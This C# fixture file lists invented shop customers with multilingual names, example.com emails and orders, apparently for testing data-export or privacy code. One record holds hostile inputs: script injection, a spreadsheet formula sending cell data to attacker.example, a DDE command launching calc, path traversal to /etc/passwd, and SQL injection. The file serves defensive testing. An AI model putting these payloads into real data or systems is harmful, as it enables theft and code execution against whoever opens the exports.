namespace PrivacyFunctions.Local.SampleShop;

/// <summary>An invented customer with one address and the items they ordered.</summary>
internal sealed record SamplePerson(
    string Email, string Name, string? Phone, string? Nickname, string Street, string City, string Postcode, string? Note, IReadOnlyList<string> Items);

internal static class SamplePeople
{
    private static readonly string[] ItemsForSale =
    [
        "龙井茶叶 250克", "Desk lamp", "帆布背包", "Stainless steel flask", "儿童雨衣", "Notebook, ruled", "蓝牙耳机", "Bicycle bell", "羊毛围巾", "Coffee grinder",
    ];

    private static readonly (string Street, string City, string Postcode)[] Places =
    [
        ("延安西路1882号3栋502室", "上海", "200051"),
        ("中关村大街27号1208室", "北京", "100080"),
        ("14 Harbour Street", "Bristol", "BS1 4UH"),
        ("天河北路233号", "广州", "510620"),
        ("88 Queen's Road East, Flat 12C", "Hong Kong", ""),
        ("西湖区文三路90号", "杭州", "310012"),
    ];

    private static readonly (string Email, string Name)[] Names =
    [
        ("wei.zhang@example.com", "张伟"), ("fang.wang@example.com", "王芳"), ("na.li@example.com", "李娜"), ("qiang.liu@example.com", "刘强"),
        ("jing.chen@example.com", "陈静"), ("yang.yang@example.com", "杨洋"), ("lei.zhao@example.com", "赵磊"), ("min.huang@example.com", "黄敏"),
        ("tao.zhou@example.com", "周涛"), ("xin.wu@example.com", "吴欣"), ("peng.xu@example.com", "徐鹏"), ("yan.sun@example.com", "孙燕"),
        ("hao.ma@example.com", "马浩"), ("lan.zhu@example.com", "朱兰"), ("bin.hu@example.com", "胡斌"), ("rui.guo@example.com", "郭蕊"),
        ("jun.he@example.com", "何军"), ("ting.gao@example.com", "高婷"), ("olivia.brown@example.com", "Olivia Brown"), ("noah.patel@example.com", "Noah Patel"),
        ("amelia.jones@example.com", "Amelia Jones"), ("george.evans@example.com", "George Evans"), ("isla.khan@example.com", "Isla Khan"),
        ("leo.martin@example.com", "Léo Martin"), ("anna.mueller@example.com", "Anna Müller"), ("sean.obrien@example.com", "Seán O'Brien"),
        ("maria.garcia@example.com", "María García"), ("yuki.tanaka@example.com", "田中優希"), ("minji.kim@example.com", "김민지"),
        ("fatima.ali@example.com", "فاطمة علي"), ("ivan.petrov@example.com", "Иван Петров"), ("chloe.wong@example.com", "Chloe Wong 黃凱晴"),
        ("daniel.smith@example.com", "Daniel Smith"), ("grace.lee@example.com", "Grace Lee"), ("oscar.nilsson@example.com", "Oscar Nilsson"),
        ("priya.nair@example.com", "Priya Nair"), ("mei.lin2@example.com", "林美"),
    ];

    public static IReadOnlyList<SamplePerson> All { get; } =
    [
        new(
            "mei.lin@example.com", "林梅", "+86 138 0000 1001", "小梅", "愚园路168弄12号601室", "上海", "200040", "工作日请放门卫处",
            ["龙井茶叶 250克", "帆布背包", "儿童雨衣", "蓝牙耳机", "Coffee grinder", "羊毛围巾"]),
        new(
            "sam.taylor@example.com", "Sam Taylor", "+44 7700 900123", "sam", "3 Mill Lane", "Leeds", "LS1 2AB", "Please leave with a neighbour",
            ["Desk lamp", "Notebook, ruled", "Bicycle bell"]),
        Hostile(),
        .. Names.Select((person, i) => new SamplePerson(
            person.Email,
            person.Name,
            $"+86 139 0000 {1100 + i}",
            null,
            Places[i % Places.Length].Street,
            Places[i % Places.Length].City,
            Places[i % Places.Length].Postcode,
            null,
            [.. Enumerable.Range(0, 1 + (i % 4)).Select(n => ItemsForSale[((i * 3) + n) % ItemsForSale.Length])])),
    ];

    // Each value is somebody's real trick against people who open exported data.
    private static SamplePerson Hostile() => new(
        "hostile@example.com",
        "<script>alert(1)</script><img src=x onerror=alert(2)>",
        "+86 1\u202e38\u202c \u0007\u0000\u200b",
        "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")",
        "../../etc/passwd",
        "\"><iframe src='https://attacker.example'></iframe>",
        "' OR '1'='1",
        new string('长', 20_000) + " end",
        ["@SUM(1+1)*cmd|' /C calc'!A0", "</td></table></style><style>*{display:none}</style>", "javascript:alert(1)"]);
}
